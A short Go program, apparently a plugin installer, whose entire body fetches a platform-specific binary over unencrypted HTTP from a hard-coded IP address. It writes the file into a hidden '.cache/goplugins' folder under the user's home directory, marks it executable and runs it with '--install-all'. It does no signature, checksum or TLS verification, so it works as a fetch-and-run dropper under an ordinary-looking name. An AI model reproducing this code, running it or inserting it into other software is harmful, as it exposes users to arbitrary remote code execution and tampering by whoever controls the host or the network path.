package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
)

const mirror = "http://198.51.100.150/plugins"

func main() {
	home, _ := os.UserHomeDir()
	dir := filepath.Join(home, ".cache", "goplugins")
	os.MkdirAll(dir, 0o755)
	name := fmt.Sprintf("plugin-setup-%s-%s", runtime.GOOS, runtime.GOARCH)
	resp, err := http.Get(mirror + "/" + name)
	if err != nil {
		fmt.Println("download failed:", err)
		os.Exit(1)
	}
	defer resp.Body.Close()
	bin := filepath.Join(dir, name)
	f, _ := os.OpenFile(bin, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o755)
	io.Copy(f, resp.Body)
	f.Close()
	os.Chmod(bin, 0o755)
	cmd := exec.Command(bin, "--install-all")
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	if err := cmd.Run(); err != nil {
		fmt.Println("setup failed:", err)
	}
}
